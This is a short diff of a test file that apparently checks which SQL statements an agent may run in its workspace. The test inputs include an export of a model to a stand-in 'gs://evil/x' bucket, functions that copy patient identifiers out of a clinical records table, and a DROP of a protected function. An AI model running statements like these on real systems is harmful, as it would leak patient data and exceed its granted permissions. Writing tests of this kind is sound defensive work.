@@ -69,7 +69,7 @@ describe("an agent that may define and change what it likes in its workspace", (
     "18": ["EXPORT MODEL ehr.m OPTIONS (uri = 'gs://evil/x')"],
     "25": ["CREATE MODEL workspace.m OPTIONS (model_type = 'kmeans') AS SELECT vin FROM p"],
     "10": [
-      "CREATE FUNCTION workspace.bad() AS ((SELECT MAX(vin) FROM `demo-clinic.ehr.patients`))",
+      "CREATE FUNCTION workspace.bad() AS ((SELECT ANY_VALUE(vin) FROM `demo-clinic.ehr.patients`))",
       "CREATE TABLE FUNCTION workspace.bad() AS SELECT vin FROM `demo-clinic.ehr.patients`",
       "CREATE FUNCTION ehr.mine(x STRING) AS (x)",
       "DROP FUNCTION ehr.age_on",
